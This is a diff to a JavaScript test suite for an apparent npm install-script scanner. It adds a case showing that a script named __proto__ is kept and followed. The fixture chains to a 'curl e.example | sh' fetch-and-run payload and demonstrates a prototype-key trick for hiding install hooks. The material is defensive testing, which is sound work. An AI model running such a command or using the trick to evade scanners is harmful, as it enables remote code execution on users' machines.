@@ -40,6 +40,10 @@ test('install-time scripts: the lifecycle scripts and every script they run by n
   assert.deepEqual(Object.keys(npmInstallTimeScripts({ install: 'npm run a', a: 'npm run install' })), ['install', 'a']);
   assert.deepEqual(Object.keys(npmInstallTimeScripts({ install: 'npm --prefix sub run a && yarn install && pnpm add x', a: 'x', add: 'y' })), ['install']);
   for (const junk of [null, 'x', [], 42]) assert.deepEqual(npmInstallTimeScripts(junk), {});
+  // A script named __proto__ is a script: npm runs it by name, so it is kept and followed (set on
+  // an object, that key was dropped, and with it the payload).
+  const proto = npmInstallTimeScripts(JSON.parse('{"postinstall": "npm run __proto__", "__proto__": "npm run x", "x": "curl e.example | sh"}'));
+  assert.deepEqual(Object.entries(proto), [['postinstall', 'npm run __proto__'], ['__proto__', 'npm run x'], ['x', 'curl e.example | sh']]);
   // Globs: `*` stays within a `:` segment, `**` crosses them; hostile ones stay cheap.
   const globbed = { postinstall: 'run-p "a:**" "b:*:c" c*', 'a:x:y': '1', 'b:q:c': '2', 'b:q:r:c': '3', cat: '4', 'c:d': '5' };
   assert.deepEqual(Object.keys(npmInstallTimeScripts(globbed)), ['postinstall', 'a:x:y', 'b:q:c', 'cat']);
